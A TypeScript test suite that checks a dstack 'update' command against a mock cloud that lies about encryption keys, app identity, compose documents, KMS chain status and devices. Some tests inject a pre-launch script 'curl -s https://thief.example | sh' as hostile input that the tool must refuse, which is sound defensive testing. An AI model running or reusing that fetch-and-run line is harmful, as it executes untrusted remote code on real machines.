import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { x25519 } from "@noble/curves/ed25519";
import { secp256k1 } from "@noble/curves/secp256k1";
import { expect } from "chai";
import { bytesToHex, hexToBytes, sha256, stringToHex } from "viem";
import { readAllowlist } from "../../../../../src/chain/read-app.ts";
import { removeComposeHash } from "../../../../../src/chain/remove-compose-hash.ts";
import { waitForReceipt } from "../../../../../src/chain/transactions/receipt.ts";
import { getComposeFile } from "../../../../../src/cloud/get-compose-file.ts";
import { getCvm } from "../../../../../src/cloud/get-cvm.ts";
import { changeAppCompose } from "../../../../../src/core/app-compose.ts";
import { computeComposeHash } from "../../../../../src/core/compose-hash.ts";
import { hashEncryptionKeyStatement } from "../../../../../src/core/encryption-key-signature.ts";
import { decryptEnvironment } from "../../../../../src/core/environment.ts";
import { type AppId, type DeviceId, parseDeviceId } from "../../../../../src/core/ids.ts";
import type { DstackUserConfig } from "../../../../../src/hardhat/type-extensions.ts";
import type { UpdateResult } from "../../../../../src/update/run.ts";
import { deployContracts, publishKmsKey } from "../../../../../src/world/contracts.ts";
import { launchCvm } from "../../../../../src/world/cvms.ts";
import { startWorld, type World } from "../../../../../src/world/start-world.ts";
import { projectOf, runTask, type TaskRun } from "../../../../support/hardhat/run-task.ts";
import { type Lie, type LyingCloud, startLyingCloud } from "../../../../support/hostile/lying-cloud.ts";

const compose = (tag: string) => `services:\n  web:\n    image: nginx:${tag}\n    environment: [TOKEN]\n`;
const cvm = "onchain-app";
const detail = /^\/cvms\/[^/]+$/;
const appKey = /^\/kms\/[^/]+\/pubkey\/[0-9a-f]+$/;
const thief = { environment: x25519.utils.randomPrivateKey(), kms: secp256k1.utils.randomPrivateKey() };
const thiefsKey = bytesToHex(x25519.getPublicKey(thief.environment)).slice(2);
const thiefsKmsKey = bytesToHex(secp256k1.getPublicKey(thief.kms, true));
const strangeDevice = parseDeviceId(sha256(stringToHex("a machine of the cloud's choice")));

function signedBy(key: Uint8Array, appId: AppId, publicKey: string, timestamp?: bigint): string {
  const digest = hexToBytes(hashEncryptionKeyStatement({ appId, publicKey, timestamp }));
  const signature = secp256k1.sign(digest, key);
  return bytesToHex(Uint8Array.of(...signature.toCompactRawBytes(), signature.recovery)).slice(2);
}

describe("dstack update, against a cloud that lies", () => {
  let world: World;
  let directory: string;
  let snapshot: string;
  let appId: AppId;
  let otherApp: AppId;
  let cloud: LyingCloud | undefined;
  let runs = 0;

  before(async () => {
    world = await startWorld({ cloud: { rolloverMs: 0 } });
    if (world.cvms.onChain?.appId === undefined) throw new Error("The world began without its on-chain CVM.");
    appId = world.cvms.onChain.appId;
    const { cloudClient, ownerClient, owner } = world;
    const other = { cloud: cloudClient, chain: ownerClient, owner: owner.address, name: "other-app" };
    otherApp = (await launchCvm({ ...other, dockerCompose: compose("1") })).appId;
    directory = await mkdtemp(join(tmpdir(), "dstack-hostile-cloud-"));
    await writeFile(path("new.yml"), compose("1.29"));
    await writeFile(path(".env"), "TOKEN=a secret\nGREETING=hi\n");
  });
  beforeEach(async () => {
    snapshot = await world.snapshot();
    runs++;
  });
  afterEach(async () => {
    await cloud?.close();
    cloud = undefined;
    await world.restore(snapshot);
  });
  after(async () => {
    await world?.close();
    if (directory) await rm(directory, { recursive: true, force: true });
  });

  const path = (name: string) => join(directory, name);
  const withUnnamedApp = () => ({ compose: path("new.yml"), envFile: path(".env") });
  const withSecret = () => ({ ...withUnnamedApp(), app: appId });

  interface Setting {
    readonly lies?: readonly Lie[];
    readonly config?: DstackUserConfig;
    /** As `--network`; null leaves it out. */
    readonly network?: null;
    /** Whether the network is the project's default one. */
    readonly isDefault?: boolean;
  }

  async function run(args: Record<string, unknown>, setting: Setting = {}): Promise<TaskRun> {
    await cloud?.close();
    cloud = await startLyingCloud(world.cloud.baseUrl, setting.lies ?? []);
    const hre = await projectOf(
      world,
      {
        kms: world.contracts.kms,
        cloud: { baseUrl: cloud.baseUrl, apiKey: world.apiKey },
        ...setting.config,
      },
      setting.isDefault === true
        ? { networks: { default: { type: "http", chainType: "op", url: world.chain.rpcUrl } } }
        : {},
      setting.network === null ? {} : { network: "world" },
    );
    return runTask(hre, ["update"], { cvm, json: true, ledger: path(`ledger-${runs}.sqlite`), ...args });
  }

  const changes = () => (cloud?.received ?? []).filter(({ method }) => method !== "GET");
  const head = () => world.chain.client.getBlockNumber({ cacheTime: 0 });

  /** Expects a refusal before a request for a change and before a payment. */
  async function refused(name: string, args: Record<string, unknown>, setting: Setting = {}, exitCode?: number) {
    const height = await head();
    const outcome = await run(args, setting);
    expect(outcome.exitCode, outcome.stdout).to.be.oneOf(exitCode === undefined ? [2, 4] : [exitCode]);
    const { error } = outcome.json<{ error: { name: string; message: string; nextStep: string } }>();
    expect(error.name, error.message).to.equal(name);
    expect(changes()).to.deep.equal([]);
    expect(await head()).to.equal(height);
    expect(outcome.stdout + outcome.stderr).not.to.include("a secret");
    return error;
  }

  async function done(args: Record<string, unknown>, setting: Setting = {}): Promise<UpdateResult> {
    const outcome = await run(args, setting);
    expect(outcome.exitCode, outcome.stdout).to.equal(0);
    return outcome.json<UpdateResult>();
  }

  /** The environment that the cloud received, decrypted with the thief's key; undefined if that fails. */
  function readAsThief(): unknown {
    const [first] = changes();
    const payload = String((JSON.parse(first?.body ?? "{}") as { encrypted_env?: string }).encrypted_env);
    try {
      return decryptEnvironment(payload, bytesToHex(thief.environment));
    } catch {
      return undefined;
    }
  }

  describe("about the key of the environment", () => {
    const ownKey = (signature: (truth: { signature: string }) => object): Lie => ({
      path: appKey,
      tell: (truth) => ({ public_key: thiefsKey, ...signature(truth) }),
    });

    it("proves an honest key by the KMS of the configuration, and says so", async () => {
      const result = await done(withSecret());
      expect(result).to.deep.include({ keyProof: "kms-contract", warnings: [] });
      expect(readAsThief()).to.equal(undefined);
    });

    it("proves it by a pinned key, without the contract's", async () => {
      const kmsPublicKey = world.cloud.kmsPublicKey("kms-base-1");
      expect(await done(withSecret(), { config: { kms: undefined, kmsPublicKey } as never })).to.include({
        keyProof: "pinned-key",
      });
    });

    for (const [what, sign] of [
      ["a worthless signature", () => ({ signature: `${"11".repeat(64)}00` })],
      ["the true key's signature", ({ signature }: { signature: string }) => ({ signature })],
      ["an honest signature of another KMS", () => ({ signature: signedBy(thief.kms, appId, thiefsKey) })],
    ] as const) {
      it(`refuses a key with ${what}`, async () => {
        await refused("UntrustedEncryptionKeyError", withSecret(), { lies: [ownKey(sign)] });
        expect(cloud?.told).to.deep.equal([1]);
      });
      it(`refuses a key with ${what}, even when unproven keys are accepted`, async () => {
        const args = { ...withSecret(), accept: "unproven-key" };
        await refused("UntrustedEncryptionKeyError", args, { lies: [ownKey(sign)] });
      });
    }

    it("accepts no other KMS that the cloud names, even one with a contract and a published key", async () => {
      const other = await deployContracts(world.ownerClient);
      await publishKmsKey(world.ownerClient, { kms: other.kms, publicKey: thiefsKmsKey });
      const lies: Lie[] = [
        { path: detail, apiVersion: "2025-10-28", tell: (truth) => withKms(truth, other.kms) },
        { path: detail, tell: (truth) => withKms(truth, other.kms) },
        ownKey(() => ({ signature: signedBy(thief.kms, appId, thiefsKey) })),
      ];
      await refused("UntrustedEncryptionKeyError", withSecret(), { lies });
      const unnamed = { lies, config: { kms: undefined } as never };
      await refused("UnprovenEncryptionKeyError", withSecret(), unnamed);
      // A KMS that the user names is trusted.
      expect(await done({ ...withSecret(), kms: other.kms }, { lies })).to.include({ keyProof: "kms-contract" });
    });

    it("prefers a signature with a time, and refuses an old one", async () => {
      const kms = await deployContracts(world.ownerClient);
      await publishKmsKey(world.ownerClient, { kms: kms.kms, publicKey: thiefsKmsKey });
      const now = BigInt(Math.floor(Date.now() / 1000));
      const at = (timestamp: bigint): Lie =>
        ownKey(() => ({
          signature: signedBy(thief.kms, appId, thiefsKey),
          signature_v1: signedBy(thief.kms, appId, thiefsKey, timestamp),
          timestamp: Number(timestamp),
        }));
      const args = { ...withSecret(), kms: kms.kms };
      await refused("UntrustedEncryptionKeyError", args, { lies: [at(now - 3600n)] });
      expect(await done(args, { lies: [at(now)] })).to.include({ keyProof: "kms-contract" });
    });

    it("makes no request when no KMS is named, and says how to name one", async () => {
      const error = await refused("UnprovenEncryptionKeyError", withSecret(), { config: { kms: undefined } as never });
      for (const way of ["DSTACK_KMS", "--kms", "kmsPublicKey", "--accept unproven-key"])
        expect(error.nextStep).to.include(way);
      expect(cloud?.received).to.deep.equal([]);
    });

    it("continues with each key when that is accepted by name, and says so in JSON and as text", async () => {
      const args = { ...withSecret(), accept: "unproven-key" };
      const setting = { lies: [ownKey(({ signature }) => ({ signature }))], config: { kms: undefined } as never };
      const result = await done(args, setting);
      expect(result.keyProof).to.equal("none");
      expect(result.warnings.join()).to.include("a key that no trusted KMS signed");
      expect(readAsThief()).to.deep.equal([
        { key: "TOKEN", value: "a secret" },
        { key: "GREETING", value: "hi" },
      ]);
      await world.restore(snapshot);
      runs++;
      const { stdout } = await run({ ...args, json: false }, setting);
      expect(stdout.match(/a key that no trusted KMS signed/g)).to.have.length(1);
    });

    it("says when the KMS has published no key, and continues only when that is accepted", async () => {
      const silent = await deployContracts(world.ownerClient);
      const args = { ...withSecret(), kms: silent.kms };
      expect((await refused("UnprovenEncryptionKeyError", args)).message).to.include("has published no key");
      expect(await done({ ...args, accept: "unproven-key" })).to.include({ keyProof: "none" });
    });

    for (const [what, kms, name] of [
      ["an app", () => appId, "InvalidArgumentError"],
      ["an address without a contract", () => `0x${"12".repeat(20)}`, "InvalidArgumentError"],
    ] as const)
      it(`refuses ${what} as the KMS`, async () => {
        await refused(name, { ...withSecret(), kms: kms() });
      });

    it("asks for no KMS without an environment", async () => {
      const result = await done({ compose: path("new.yml") }, { config: { kms: undefined } as never });
      expect(result.keyProof).to.equal(undefined);
    });
  });

  describe("about the app", () => {
    const namesOther = (): Lie["tell"] => (truth) => ({ ...truth, app_id: otherApp.slice(2) });

    it("refuses a second answer that names another app of the same KMS", async () => {
      const lies = [{ path: detail, apiVersion: "2025-10-28", tell: namesOther() }];
      const error = await refused("CloudProtocolError", withSecret(), { lies });
      expect(error.message).to.include(otherApp).and.to.include(appId);
    });

    it("refuses the honestly signed key of another app", async () => {
      const answer = await fetch(`${world.cloud.baseUrl}/kms/kms-base-1/pubkey/${otherApp.slice(2)}`, {
        headers: { "X-API-Key": world.apiKey },
      });
      const honest: unknown = await answer.json();
      await refused("UntrustedEncryptionKeyError", withSecret(), { lies: [{ path: appKey, tell: () => honest }] });
    });

    for (const after of [0, 1, 2]) {
      it(`refuses another app than the first from answer ${after + 1} on, where the user named it`, async () => {
        const lies = [{ path: detail, after, tell: namesOther() }];
        const config = { apps: { shop: { address: appId, cvm } } };
        await refused("InvalidArgumentError", withUnnamedApp(), { lies, config });
        await refused("InvalidArgumentError", { ...withSecret(), app: appId }, { lies });
        await refused("InvalidArgumentError", { ...withSecret(), app: "shop", cvm: undefined }, { lies, config });
      });
    }

    it("refuses another app when the CVM is named by its app", async () => {
      const lies = [{ path: detail, tell: namesOther() }];
      await refused("InvalidArgumentError", { ...withUnnamedApp(), cvm: `app_${appId.slice(2)}` }, { lies });
    });

    describe("when it is another owner's, at the same KMS", () => {
      let thiefsApp: AppId;
      before(async () => {
        const thiefs = { owner: "0x9965507D1a55bcC2695C58ba16FB37d819B0A4dc", name: "thiefs-app" } as const;
        const clients = { cloud: world.cloudClient, chain: world.ownerClient };
        thiefsApp = (await launchCvm({ ...clients, ...thiefs, dockerCompose: compose("1") })).appId;
      });
      const lies = (): Lie[] => [
        {
          path: detail,
          tell: (truth) => ({
            ...truth,
            app_id: thiefsApp.slice(2),
            ...(truth.kms_info && { kms_info: { ...truth.kms_info, dstack_app_address: thiefsApp } }),
          }),
        },
      ];

      it("sends nothing when the user names no app, unless that is accepted by name", async () => {
        const error = await refused("UnprovenEncryptionKeyError", withUnnamedApp(), { lies: lies() });
        expect(cloud?.received).to.deep.equal([]);
        for (const way of ["--app", "dstack.apps", "app_…", "--accept unproven-key"])
          expect(error.nextStep).to.include(way);
        const accepted = { ...withUnnamedApp(), accept: "unproven-key" };
        expect((await done(accepted)).outcome).to.equal("confirmed");
      });

      for (const [what, entry, typed] of [
        ["the address alone", {}, cvm],
        ["the address and another CVM", { cvm: "another" }, cvm],
        ["the CVM, called by its id", { cvm }, () => world.cvms.onChain?.id],
        ["the CVM's id, called by its name", { cvm: () => world.cvms.onChain?.id }, cvm],
      ] as const)
        it(`sends nothing when the configuration names ${what}`, async () => {
          const named = "cvm" in entry ? { cvm: typeof entry.cvm === "string" ? entry.cvm : entry.cvm() } : {};
          const shop = { address: appId, ...named } as NonNullable<DstackUserConfig["apps"]>[string];
          const args = { ...withUnnamedApp(), cvm: typeof typed === "string" ? typed : typed() };
          for (const accept of [undefined, "unproven-key"]) {
            await refused("InvalidArgumentError", { ...args, accept }, { lies: lies(), config: { apps: { shop } } });
          }
          await done(args, { config: { apps: { shop } } });
        });

      it("compares a CVM's other names with the configured entry", async () => {
        const apps = { shop: { address: appId, cvm }, other: { address: thiefsApp } };
        const args = { ...withUnnamedApp(), cvm: world.cvms.onChain?.id };
        await refused("InvalidArgumentError", args, { lies: lies(), config: { apps } });
      });
    });

    it("accepts an app id in --cvm as the name of the app, beside a configuration of others", async () => {
      const config = { apps: { other: { address: otherApp } } };
      await refused("InvalidArgumentError", withUnnamedApp(), { config });
      const result = await done({ ...withUnnamedApp(), cvm: `app_${appId.slice(2)}` }, { config });
      expect(result).to.include({ keyProof: "kms-contract" });
    });
  });

  describe("about the document", () => {
    const injected = { pre_launch_script: "#!/bin/sh\ncurl -s https://thief.example | sh\n" };
    const document = /^\/cvms\/[^/]+\/compose_file$/;
    const adding = (extra: object): Lie => ({ path: document, tell: (truth) => ({ ...truth, ...extra }) });
    /** Makes the cloud ask for this hash in place of the hash in force or of the requested one. */
    const registering = (hash: string): Lie => ({
      method: "PATCH",
      path: detail,
      tell: (truth) =>
        truth.details === undefined
          ? truth
          : {
              ...truth,
              compose_hash: hash,
              details: truth.details.map((one: { field: string }) =>
                one.field === "compose_hash" ? { ...one, value: hash } : one,
              ),
            },
    });
    const args = () => ({ compose: path("new.yml") });

    for (const [what, extra] of [
      ["a script that was not requested", injected],
      ["a field that some forms of the hash leave out", { init_script: "curl -s https://thief.example | sh" }],
      ["another compose file", { docker_compose_file: compose("evil") }],
    ] as const)
      it(`does not start from ${what}`, async () => {
        const outcome = await run(args(), { lies: [adding(extra)] });
        const { error } = outcome.json<{ error: { name: string; nextStep: string } }>();
        expect(error.name).to.equal("UnprovenDocumentError");
        expect(error.nextStep).to.include("Compare").and.to.include("--accept unproven-document");
        expect(outcome.exitCode).to.equal(5);
        expect(changes()).to.deep.equal([]);
      });

    it("does not allow a document that the cloud extends to match, and pays nothing", async () => {
      const height = await head();
      const current = await getComposeFile(world.cloudClient, { cvm });
      const wanted = changeAppCompose({ ...current, ...injected }, { dockerCompose: compose("1.29") });
      const hash = computeComposeHash(wanted).slice(2);
      const outcome = await run(args(), { lies: [adding(injected), registering(hash)] });
      expect(outcome.json<{ error: { name: string } }>().error.name).to.equal("UnprovenDocumentError");
      expect(await head()).to.equal(height);
    });

    it("asks the app when the cloud asks to allow the hash of an unchanged document", async () => {
      const height = await head();
      const extra = { ...injected, allowed_envs: ["TOKEN", "GREETING"] };
      const current = await getComposeFile(world.cloudClient, { cvm });
      const hash = computeComposeHash({ ...current, ...extra }).slice(2);
      const outcome = await run({ envFile: path(".env"), app: appId }, { lies: [adding(extra), registering(hash)] });
      expect(outcome.json<{ error: { name: string } }>().error.name).to.equal("UnprovenDocumentError");
      expect(await head()).to.equal(height);
    });

    it("reports how the document was proven, in the result and as text", async () => {
      expect(await done(args())).to.deep.include({ documentProof: "allowlist", warnings: [] });
      await world.restore(snapshot);
      runs++;
      const { stdout } = await run({ ...args(), json: false });
      expect(stdout).to.match(/check document +allowed by the app: 0x[0-9a-f]{64} \(form canonical\)/);
    });

    it("needs --accept unproven-document once the hash in force was removed", async () => {
      const { composeHash } = await getCvm(world.cloudClient, { cvm, apiVersion: "2026-01-21" });
      if (composeHash === undefined) throw new Error("The CVM has no hash.");
      const functionName = "removeComposeHash";
      const transactionHash = await removeComposeHash(world.ownerClient, { appId, composeHash });
      await waitForReceipt(world.ownerClient, { transactionHash, functionName });
      const error = await refused("UnprovenDocumentError", args(), {}, 5);
      expect(error.nextStep).to.include("its hash was removed");
      const result = await done({ ...args(), accept: "unproven-document" });
      expect(result).to.include({ documentProof: "none" });
      expect(result.warnings.join()).to.include("Only the cloud says that the app runs it");
    });

    it("checks exactly the document that it requests", async () => {
      // The linter would refuse an image from a variable; the second answer has one.
      const variable = compose("$TOKEN");
      const second: Lie = { path: document, after: 1, tell: (truth) => ({ ...truth, docker_compose_file: variable }) };
      const outcome = await run({ envFile: path(".env"), app: appId }, { lies: [second] });
      expect(cloud?.received.filter(({ url }) => url.endsWith("/compose_file"))).to.have.length(1);
      expect(outcome.exitCode, outcome.stdout).to.equal(0);
    });
  });

  describe("about the chain", () => {
    const offChain: Lie["tell"] = (truth) => ({
      ...truth,
      kms_type: "phala",
      kms_info: truth.kms_info && {
        ...truth.kms_info,
        chain_id: null,
        kms_contract_address: null,
        dstack_kms_address: null,
        dstack_app_address: null,
        encrypted_env_pubkey: thiefsKey,
      },
      encrypted_env_pubkey: thiefsKey,
    });
    const lies: Lie[] = [{ path: detail, tell: offChain }];
    const accepted = () => ({ ...withUnnamedApp(), accept: "unproven-key" });

    it("refuses a CVM without a chain when a network is named", async () => {
      await refused("KmsDowngradeError", withSecret(), { lies });
      await refused("KmsDowngradeError", { ...withUnnamedApp(), cvm: `app_${appId.slice(2)}` }, { lies });
      await refused("KmsDowngradeError", accepted(), { lies });
      await refused("KmsDowngradeError", { compose: path("new.yml") }, { lies });
    });

    it("refuses a CVM without a chain when the configuration names the app, by CVM or address", async () => {
      for (const apps of [{ shop: { address: appId, cvm } }, { shop: { address: appId } }]) {
        await refused("KmsDowngradeError", accepted(), { lies, network: null, config: { apps } });
        await refused("KmsDowngradeError", { compose: path("new.yml") }, { lies, network: null, config: { apps } });
      }
      await refused("KmsDowngradeError", { ...accepted(), app: appId }, { lies, network: null });
    });

    it("refuses a CVM without a chain when the default network has a contract at the app's address", async () => {
      const error = await refused("KmsDowngradeError", accepted(), { lies, network: null, isDefault: true });
      expect(error.message).to.include(appId);
    });

    for (const after of [1, 2]) {
      it(`refuses a CVM without a chain from answer ${after + 1} on`, async () => {
        const outcome = await run(accepted(), { lies: [{ path: detail, after, tell: offChain }] });
        const { error } = outcome.json<{ error: { name: string } }>();
        expect(error.name).to.be.oneOf(["KmsDowngradeError", "InvalidArgumentError"]);
        expect(changes()).to.deep.equal([]);
      });
    }

    it("does not use the unsigned key of the last answer", async () => {
      const late = [{ path: detail, apiVersion: "2025-10-28", tell: offChain }];
      await done(withSecret(), { lies: late });
      expect(readAsThief()).to.equal(undefined);
    });

    it("encrypts for a CVM without a contract only to a pinned key, or when that is accepted", async () => {
      const args = { ...withUnnamedApp(), cvm: "offchain-app" };
      const byApp = { ...args, cvm: `app_${world.cvms.offChain?.appId?.slice(2)}` };
      for (const unproven of [args, byApp]) await refused("UnprovenEncryptionKeyError", unproven, { network: null });
      const kmsPublicKey = world.cloud.kmsPublicKey("kms-phala-1");
      const pinned = { network: null, config: { kmsPublicKey } } as const;
      const error = await refused("UnprovenEncryptionKeyError", args, pinned);
      expect(error.nextStep).to.include("app_…");
      expect(await done(byApp, pinned)).to.include({ keyProof: "pinned-key" });
      await world.restore(snapshot);
      runs++;
      expect(await done({ ...args, accept: "unproven-key" }, { network: null })).to.include({ keyProof: "none" });
    });

    it("refuses to register a hash for a CVM that had no contract in an earlier answer", async () => {
      const outcome = await run({ compose: path("new.yml") }, { lies, network: null });
      expect(outcome.json<{ error: { name: string } }>().error.name).to.equal("CloudProtocolError");
    });
  });

  describe("about the device", () => {
    const names = (deviceId: DeviceId): Lie => ({
      method: "PATCH",
      path: detail,
      tell: (truth) =>
        truth.details === undefined
          ? truth
          : {
              ...truth,
              device_id: deviceId.slice(2),
              details: truth.details.map((one: { field: string }) =>
                one.field === "device_id" ? { ...one, value: deviceId.slice(2) } : one,
              ),
            },
    });
    const lies = [names(strangeDevice)];
    const args = () => ({ compose: path("new.yml") });
    const isListed = async (deviceId: DeviceId) =>
      (await readAllowlist(world.chain.client, { appId, deviceId })).deviceListed;

    it("allows the device, and shows it before the payment and in the result", async () => {
      const result = await done(args(), { lies });
      expect(result.allowedDevice).to.deep.equal({ deviceId: strangeDevice, namedBy: "cloud" });
      expect(await isListed(strangeDevice)).to.equal(true);
      await world.restore(snapshot);
      runs++;
      const { stdout } = await run({ ...args(), json: false }, { lies });
      const told = stdout.indexOf(`will allow device      ${strangeDevice}, named by the cloud`);
      expect(told).to.be.greaterThan(0).and.lessThan(stdout.indexOf("addDevice  "));
      expect(stdout).to.include(`Allowed device ${strangeDevice}, named by the cloud.`);
    });

    it("prints nothing about devices without a new one", async () => {
      expect((await done(args())).allowedDevice).to.equal(undefined);
    });

    const stops = async (more: Record<string, unknown>, config: DstackUserConfig = {}) => {
      const height = await head();
      const outcome = await run({ ...args(), ...more }, { lies, config });
      const { error } = outcome.json<{ error: { name: string; message: string } }>();
      expect(error.name, error.message).to.equal("UnexpectedDeviceError");
      expect(outcome.exitCode).to.equal(5);
      expect(error.message).to.include(strangeDevice);
      expect(await head()).to.equal(height);
    };

    it("stops when the configuration lists the app's devices, also under another name", async () => {
      const [node] = world.nodes;
      await stops({}, { apps: { shop: { address: appId, cvm, devices: [node.deviceId] } } });
      await stops({}, { apps: { shop: { address: appId, cvm }, again: { address: appId, devices: [] } } });
    });

    it("continues when the list has the device", async () => {
      const devices = [strangeDevice];
      const result = await done(args(), { lies, config: { apps: { shop: { address: appId, devices } } } });
      expect(result.allowedDevice).to.deep.include({ deviceId: strangeDevice });
    });

    it("applies --allow-device and --no-new-device", async () => {
      await stops({ noNewDevice: true });
      await stops({ allowDevice: world.nodes[1].deviceId });
      const result = await done({ ...args(), allowDevice: strangeDevice }, { lies });
      expect(result.allowedDevice).to.deep.include({ deviceId: strangeDevice });
    });

    it("refuses options that contradict each other or the configuration, before the cloud is asked to change anything", async () => {
      const both = { ...args(), allowDevice: strangeDevice, noNewDevice: true };
      await refused("InvalidArgumentError", both);
      const config = { apps: { shop: { address: appId, devices: [world.nodes[0].deviceId] } } };
      await refused("InvalidArgumentError", { ...args(), allowDevice: strangeDevice }, { config });
      await refused("InvalidHexError", { ...args(), allowDevice: "node-1" });
    });
  });

  function withKms(truth: { kms_info?: object }, kms: string): object {
    return {
      ...truth,
      kms_info: truth.kms_info && { ...truth.kms_info, kms_contract_address: kms, dstack_kms_address: kms },
    };
  }
});
